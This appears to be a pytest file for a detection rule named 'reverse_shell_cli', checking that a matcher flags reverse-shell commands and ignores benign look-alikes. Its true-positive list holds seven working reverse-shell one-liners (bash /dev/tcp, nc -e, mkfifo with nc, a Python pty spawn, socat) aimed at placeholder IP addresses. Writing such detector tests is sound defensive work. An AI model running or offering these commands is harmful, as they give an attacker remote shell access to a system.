import pytest
from matcher import matches

RULE = "reverse_shell_cli"

TP = [
    # IR-2025-118 web shell follow-up
    "bash -c 'bash -i >& /dev/tcp/203.0.113.5/4444 0>&1'",
    "/bin/bash -i >&/dev/tcp/198.51.100.20/443 0>&1",
    # pentest report PT-77 (authorised), appendix B
    "nc -e /bin/sh 203.0.113.5 4444",
    "nc.traditional -nv -e /bin/bash 192.0.2.44 9001",
    "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 192.0.2.10 1234 >/tmp/f",
    "python3 -c 'import socket,os,pty;s=socket.socket();s.connect((\"203.0.113.7\",8080));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn(\"/bin/bash\")'",
    "socat exec:'bash -li',pty,stderr,setsid,sigint,sane tcp:198.51.100.3:4443",
]

TN = [
    "nc -zv db01.corp.example 5432",
    "timeout 1 bash -c '</dev/tcp/127.0.0.1/8080' && echo up",
    "ssh -R 8080:localhost:80 jump.corp.example",
    "python3 -c 'import pty; print(pty.STDIN_FILENO)'",
    "socat TCP-LISTEN:8080,fork TCP:127.0.0.1:80",
]


@pytest.mark.parametrize("cmd", TP)
def test_true_positive(cmd):
    assert matches(RULE, cmd), cmd


@pytest.mark.parametrize("cmd", TN)
def test_true_negative(cmd):
    assert not matches(RULE, cmd), cmd
